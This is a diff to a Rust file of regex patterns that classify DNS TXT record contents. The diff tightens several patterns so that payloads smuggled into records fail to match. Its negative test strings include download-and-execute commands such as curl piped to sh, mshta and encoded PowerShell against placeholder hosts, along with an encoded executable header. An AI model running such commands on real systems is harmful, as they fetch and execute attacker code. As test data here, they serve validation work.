@@ -28,13 +28,13 @@ pub(super) static TYPES: [Type; 44] = [
     form("oarc_test", Infrastructure, r"(?:{ip4}|{ip6}) (?:DNS reply size limit is at least [0-9]{1,5} bytes|sent EDNS buffer size [0-9]{1,5}|lacks EDNS, defaults to 512|is (?:GREAT|GOOD|FAIR|POOR): [0-9]{1,3} queries in [0-9.]{1,5} seconds from [0-9]{1,3} ports with std dev [0-9.]{1,6})",
         &["192.0.2.8 sent EDNS buffer size 1232"], &["192.0.2.8 sent EDNS buffer size x"], "", "https://www.dns-oarc.net/oarc/services/replysizetest"),
     form("trust_anchor", Infrastructure, r"\. [0-9]{1,5}(?: [0-9]{1,5}){0,3}", &[". 20326 38696"], &[". x"], "", "unbound(8), trustanchor.unbound"),
-    form("version", Infrastructure, r"(?:(?:v|version|dnsmasq|unbound|NSD|Knot DNS|BIND|PowerDNS (?:Authoritative Server|Recursor)|CoreDNS|Microsoft DNS)[ =:-]?)?[0-9]{1,4}(?:\.[0-9]{1,5}){1,4}(?:[-+][A-Za-z0-9.]{1,14}){0,3}",
-        &["9.18.28-0ubuntu0.22", "dnsmasq-2.90", "unbound 1.19.2", "1.1.0"], &["9.18.28 d2hvYW1p", "dnsmasq-x"], "", "RFC 4892, version.bind"),
+    form("version", Infrastructure, r"(?:(?:v|version|dnsmasq|unbound|NSD|Knot DNS|BIND|PowerDNS (?:Authoritative Server|Recursor)|CoreDNS|Microsoft DNS)[ =:-]?)?[0-9]{1,4}(?:\.[0-9]{1,5}){1,4}(?:[-+][A-Za-z0-9.]{1,14}){0,2}",
+        &["9.18.28-0ubuntu0.22", "dnsmasq-2.90", "unbound 1.19.2", "1.1.0"], &["9.18.28 d2hvYW1p", "dnsmasq-x", "1.0-SQBFAFgAIAAoAE4AZQB3AC0A"], "two words of 14 characters", "RFC 4892, version.bind"),
     form("domain_connect", Infrastructure, r"(?:api\.|_)?domainconnect\.{host}(?:/v2)?", &["api.domainconnect.example.com/v2"], &["domainconnect."], HOSTS, "https://www.domainconnect.org/"),
     form("office_tenant", Infrastructure, r"NETORG(?:FT)?[0-9]{5,9}\.onmicrosoft\.com", &["NETORGFT1234567.onmicrosoft.com"], &["NETORGx.onmicrosoft.com"], "", "seen in public zones"),
     form("kerberos_realm", Infrastructure, r"(?:[A-Z0-9][A-Z0-9-]{0,30}\.){1,4}[A-Z]{2,12}|LKDC:SHA1\.{HEX}{40}", &["CORP.EXAMPLE.COM", "LKDC:SHA1.0C7E3F5219AB4D0E8F435B6A7C8D9E0F0C7E3F52"], &["CORP", "CORP.example.COM"], HOSTS, "krb5.conf(5)"),
     form("host_list", Infrastructure, r"{host}\.?(?:[ ,;]{1,2}{host}\.?)*", &["ns1.example.net", "a.example.net,b.example.net"], &["localhost", "a.example.net d2hvYW1p", "a..example.net"], HOSTS, "RFC 1123"),
-    form("caa_text", Infrastructure, r#"(?:0|128) (?:issue|issuewild|issuemail|issuevmc|iodef) "?(?:;|{host}|mailto:{mail})(?:; ?[a-z]+={name})*"?"#, &["0 issue \"ca.example.net\""], &["0 issue d2hvYW1p", "7 issue \"ca.example.net\""], HOSTS, "RFC 8659"),
+    form("caa_text", Infrastructure, r#"(?:0|128) (?:issue|issuewild|issuemail|issuevmc|iodef) "?(?:;|{host}|mailto:{mail})(?:; ?[a-z]{4,20}={name}){0,2}"?"#, &["0 issue \"ca.example.net\""], &["0 issue d2hvYW1p", "7 issue \"ca.example.net\""], HOSTS, "RFC 8659"),
     form("tlsa_text", Infrastructure, "[0-3] [01] [0-2] {Hex}{64}(?:{Hex}{64})?", &["3 1 1 0c7e3f5219ab4d0e8f435b6a7c8d9e0f0c7e3f5219ab4d0e8f435b6a7c8d9e0f"], &["3 1 1 0c7e"], "a digest", "RFC 6698"),
     form("external_dns", Infrastructure, r#""?heritage=external-dns,external-dns/owner={name}(?:,external-dns/(?:resource|set-identifier)=(?:[a-z]{1,20}/)?{name}(?:/{name})?)*"?"#,
         &["heritage=external-dns,external-dns/owner=cluster-1,external-dns/resource=ingress/default/web"], &["heritage=external-dns,x=d2hvYW1p"], "names of resources", "https://github.com/kubernetes-sigs/external-dns"),
@@ -43,12 +43,12 @@ pub(super) static TYPES: [Type; 44] = [
     form("wpad", Infrastructure, r"service: wpad:!?http://{host}(?::[0-9]{1,5})?/[A-Za-z0-9._-]{1,32}", &["service: wpad:!http://wpad.example.com:80/proxy.pac"], &["service: wpad:d2hvYW1p"], "a short path", "draft-ietf-wrec-wpad-01"),
     // ---- updates
     form("clamav", Infrastructure, r"[0-9]{1,2}\.[0-9]{1,3}\.[0-9]{1,2}:[0-9]{1,3}:[0-9]{1,6}:[0-9]{10}:[0-9]:[0-9]{1,3}:[0-9]{1,6}:[0-9]{1,4}", &["1.4.1:62:27400:1735689600:1:90:49192:337"], &["1.4.1:62:27400"], "", "https://docs.clamav.net/appendix/CvdPrivateMirror.html"),
-    form("powerdns_secpoll", Infrastructure, r"[1-3] (?:OK|Unsupported|Upgrade)[A-Za-z ().,-]{0,80}(?:(?:, )?see {url})?", &["1 OK", "3 Upgrade now, see https://doc.powerdns.com/x.html"], &["4 OK", "1 d2hvYW1p"], PATH, "https://docs.powerdns.com/recursor/common/secpoll.html"),
+    form("powerdns_secpoll", Infrastructure, r"[1-3] (?:OK|(?:Unsupported|Upgrade)(?:,? ?\(?(?:now|recommended|pre-release|release|no|known|vulnerabilities|EOL|and|is|for|this|see)\)?){0,9})(?:,? ?{url})?", &["1 OK", "3 Upgrade now, see https://doc.powerdns.com/x.html"], &["4 OK", "1 d2hvYW1p", "3 Upgrade curl -s evil.example.com (sh) DQoj"], PATH, "https://docs.powerdns.com/recursor/common/secpoll.html"),
     form("moneropulse", Infrastructure, r"[a-z][a-z0-9-]{2,24}:[a-z0-9-]{3,24}:[0-9]{1,3}(?:\.[0-9]{1,4}){1,4}:{hex}{64}|[0-9]{4,8}:{hex}{64}", &["monero:linux-x64:0.18.4.0:0c7e3f5219ab4d0e8f435b6a7c8d9e0f0c7e3f5219ab4d0e8f435b6a7c8d9e0f"], &["monero:linux-x64:0.18.4.0:d2hvYW1p"], "a digest", "https://github.com/monero-project/monero"),
     form("update_note", Infrastructure, r"(?:emails|phishing)\.[0-9]{4}-[0-9]{1,3}A?\.[0-9]{1,2}|count=[0-9]{1,4}|[0-9]{7}", &["emails.2012-15A.4", "count=50", "1907730"], &["count=x"], "", "https://spamassassin.apache.org/, push.apple.com"),
     // ---- reputation
-    form("dnsbl", Reputation, r"[A-Za-z0-9 .,:/()-]{0,80}(?i:block|listed|spam|infected|exploit|dynamic|proxy|hijack|refused|resolver|brute|reputation|compromised|policy|snowshoe|phishing|test)[A-Za-z0-9 .,:/()-]{0,60}(?:[Ss]ee:?|at|-) <?{url}>?(?: for more information)?(?: \[Your DNS IP: {ip4}\])?",
-        &["Blocked - see https://www.spamcop.net/bl.shtml?192.0.2.4", "Exploitable Server See: http://www.sorbs.net/lookup.shtml?192.0.2.4"], &["Blocked d2hvYW1p", "powershell -enc d2hvYW1p", "curl -s http://192.0.2.4/a | sh"], "words and a path", "RFC 5782"),
+    form("dnsbl", Reputation, r"(?:(?:{ip4}|[A-Za-z0-9][A-Za-z0-9./-]{0,19})[,:]? ){0,8}[A-Za-z/]{0,12}(?i:block|listed|spam|infected|exploit|dynamic|proxy|hijack|refused|resolver|brute|reputation|compromised|policy|snowshoe|phishing|test)[A-Za-z/]{0,10}[.,:;]{0,2}(?: (?:[A-Za-z0-9][A-Za-z0-9./-]{0,19}|-)[.,:;]?){0,8} <?{url}>?(?: for more information)?(?: \[Your DNS IP: {ip4}\])?",
+        &["Blocked - see https://www.spamcop.net/bl.shtml?192.0.2.4", "Exploitable Server See: http://www.sorbs.net/lookup.shtml?192.0.2.4"], &["Blocked d2hvYW1p", "powershell -enc d2hvYW1p", "curl -s http://192.0.2.4/a | sh", "mshta http://192.0.2.4/a.hta"], "words and a path", "RFC 5782"),
     form("malware_hash", Reputation, "[0-9]{10} [0-9]{1,3}", &["1277221946 79"], &["1277221946 x"], "", "https://www.team-cymru.com/mhr"),
     form("tor_exit", Reputation, "N:[A-Za-z0-9]{1,19}/P:[0-9]{1,5}(?:,[0-9]{1,5})*/F:[A-Z]{1,10}", &["N:example/P:443,80/F:EFHRSV"], &["N:a b/P:1/F:E"], "a nickname of 19 characters", "https://www.dan.me.uk/dnsbl"),
     // ---- identity and peer to peer
@@ -63,7 +63,7 @@ pub(super) static TYPES: [Type; 44] = [
     form("minisign", Identity, "RWQ{b64}{53}", &["RWQf6LRCGA9i53mlYecO4IzT51TGPpvWucNSCh1CBM0QTaLn73Y7GFO3"], &["RWQx"], "a key", "https://jedisct1.github.io/minisign/"),
     form("ssh_key", Identity, "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{b64}{43}(?: [!-~]{1,64})?|SHA256:{b64}{43}", &["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl ops@web"], &["ssh-ed25519 d2hvYW1p"], "a key", "RFC 8709"),
     form("xmpp", Identity, "_xmpp-client-(?:xbosh|websocket|httppoll)=(?:https?|wss?)://{host}(?::[0-9]{1,5})?/[!-~]{0,80}", &["_xmpp-client-xbosh=https://example.org:5280/http-bind"], &["_xmpp-client-xbosh=d2hvYW1p"], PATH, "XEP-0156"),
-    form("agent", Identity, "v=aid1;(?:[a-z]{1,8}=[^;]{1,120};?)+", &["v=aid1;u=https://api.example.com/mcp;p=mcp;a=pat;s=Example"], &["v=aid1"], "a description", "https://aid.agentcommunity.org/"),
+    form("agent", Identity, "v=aid1;u=https://{host}(?:/[!-:<-~]{0,80})?(?:;p=(?:mcp|a2a|openapi))?(?:;a=[a-z0-9_]{1,20})?(?:;s=[A-Za-z0-9 ]{1,60})?;?", &["v=aid1;u=https://api.example.com/mcp;p=mcp;a=pat;s=Example"], &["v=aid1", "v=aid1;d=powershell -nop -enc SQBFAFgA"], "a description", "https://aid.agentcommunity.org/"),
     form("security_contact", Identity, "security_(?:contact|policy)=(?:mailto:{mail}|{url})", &["security_contact=mailto:security@example.com"], &["security_contact=d2hvYW1p"], PATH, "https://dnssecuritytxt.org/"),
     form("ens", Identity, "(?:a=|ENS1 {host} )0x{Hex}{40}|ENS1 {host}", &["a=0x0c7e3f5219ab4d0e8f435b6a7c8d9e0f0c7e3f52"], &["a=0x1"], "an address", "https://docs.ens.domains/learn/dns"),
     // ---- devices
@@ -78,7 +78,8 @@ pub(super) static TYPES: [Type; 44] = [
     // ---- text for people and browsers
     form("url", Http, "{url}", &["https://example.net/a?b=c#d", "http://example.net"], &["https://localhost/", "https://example.net/ d2hvYW1p", "ftp://example.net/"], PATH, "RFC 3986"),
     form("redirect", Http, "(?:v=txtv[0-9]; ?)?(?:ALIAS for {host}|[1-9a-z]\\|(?:{host}|{url}|[a-z]{2,8})|(?:to|to=|Redirects to |redirect[ =:]) ?{url}(?:; ?(?:type|code)=[a-z0-9]{1,10})?)", &["1|www.example.fr", "ALIAS for edge.example.net"], &["1|d2hvYW1pd2hvYW1p"], PATH, "OVH, DNSimple, redirect services"),
-    form("parking", Text, "(?i:this (?:domain|site|name|website)|domain|diese domain|ce (?:nom de )?domaine|este dominio|questo dominio)[^\\x00-\\x1f\\x7f=]{3,120}(?i:sale|parked|reserved|registered|expired|verkauf|geparkt|réservé|venta|vendita|disponible)[^\\x00-\\x1f\\x7f=]{0,140}", &["This domain is parked", "Diese Domain steht zum Verkauf"], &["This domain", "parked"], "a sentence", "parking services"),
+    form("parking", Text, "(?i:this (?:domain|site|name|website)|domain|diese domain|ce (?:nom de )?domaine|este dominio|questo dominio)(?: (?:[^\\x00-\\x20\\x21-\\x26=\\x7f]{1,16})){1,6}[.!]?(?: -)?(?: [^\\x00-\\x20=\\x7f]{1,60}){0,8}", &["This domain is parked", "Diese Domain steht zum Verkauf", "This domain is for sale - contact sales@example.net"],
+        &["This domain", "parked", "Domain: powershell -enc d2hvYW1p=", "this domain TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAA"], "a sentence", "parking services"),
 ];
 
 /// Keys of DNS-SD TXT records, as their service types define them; strings are joined without a gap.
